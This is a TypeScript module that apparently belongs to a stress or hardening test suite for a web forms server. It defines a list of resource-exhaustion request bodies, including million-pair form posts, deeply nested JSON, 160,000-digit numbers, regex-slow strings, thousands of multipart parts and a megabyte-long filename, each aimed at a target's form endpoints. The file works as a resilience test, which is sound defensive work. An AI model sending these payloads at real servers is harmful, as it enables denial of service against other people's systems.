import type { Attack } from "./attacker";
import { postForm, postJson, shoot } from "./attacker";

const MB = 1024 * 1024;
const NOWHERE = "/f/01ARZ3NDEKTSV4RRFFQ69G5FAV";
const pairs = "a=1&".repeat(MB);
const keys = JSON.stringify({ data: Object.fromEntries(Array.from({ length: 300_000 }, (_, index) => [`k${index}`, 1])) });
const digits = `10${"0".repeat(160_000)}1`;
const multipart = { "Content-Type": "multipart/form-data; boundary=x" };
const part = (name: string, rest = "") => `--x\r\nContent-Disposition: form-data; name="${name}"${rest}\r\n\r\n1\r\n`;

/** Bodies that are cheap to send and expensive to read. */
export const attackBodies: Attack[] = [
  { name: "a million pairs to no form", strike: (target) => postForm(target, NOWHERE, pairs) },
  { name: "a million pairs to a form", strike: (target) => postForm(target, target.forms.texts, pairs) },
  { name: "a million answers to one select", strike: (target) => postForm(target, target.forms.selects, "s0=o1&".repeat(700_000)) },
  { name: "every option of every select, wrong", strike: (target) => postForm(target, target.forms.selects, allOptions()) },
  { name: "300,000 keys", strike: (target) => postJson(target, target.forms.texts, keys) },
  { name: "two million lists in each other", strike: (target) => postJson(target, target.forms.texts, "[".repeat(2 * MB)) },
  { name: "a text of four million escapes", strike: (target) => postForm(target, target.forms.texts, `t0=${"%41".repeat(1_300_000)}`) },
  {
    name: "a number of 160,000 digits, by every channel",
    strike: (target) =>
      Promise.all([
        postJson(target, target.forms.numbers, JSON.stringify({ data: { n0: digits } })),
        postForm(target, target.forms.numbers, `n0=${digits}`),
        postForm(target, `${target.forms.numbers}/check`, `n0=${digits}`),
      ]),
  },
  {
    name: "texts that patterns are slow with",
    strike: (target) => {
      const data = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`p${index}`, "a".repeat(2_000)]));
      return postJson(target, target.forms.patterns, JSON.stringify({ data }));
    },
  },
  {
    name: "20,000 parts",
    strike: (target) =>
      shoot(target, { method: "POST", path: target.forms.files, headers: multipart, body: `${part("a").repeat(20_000)}--x--\r\n` }),
  },
  {
    name: "a file's name of a megabyte",
    strike: (target) =>
      shoot(target, {
        method: "POST",
        path: `${target.forms.files}/files`,
        headers: multipart,
        body: `${part("cv", `; filename="${"./".repeat(MB / 2)}"`)}--x--\r\n`,
      }),
  },
  {
    name: "a multipart body that never begins",
    strike: (target) => shoot(target, { method: "POST", path: target.forms.files, headers: multipart, body: "-".repeat(4 * MB) }),
  },
];

function allOptions(): string {
  return Array.from({ length: 100 }, (_, field) => Array.from({ length: 200 }, (__, option) => `s${field}=o${option}&`).join("")).join("");
}
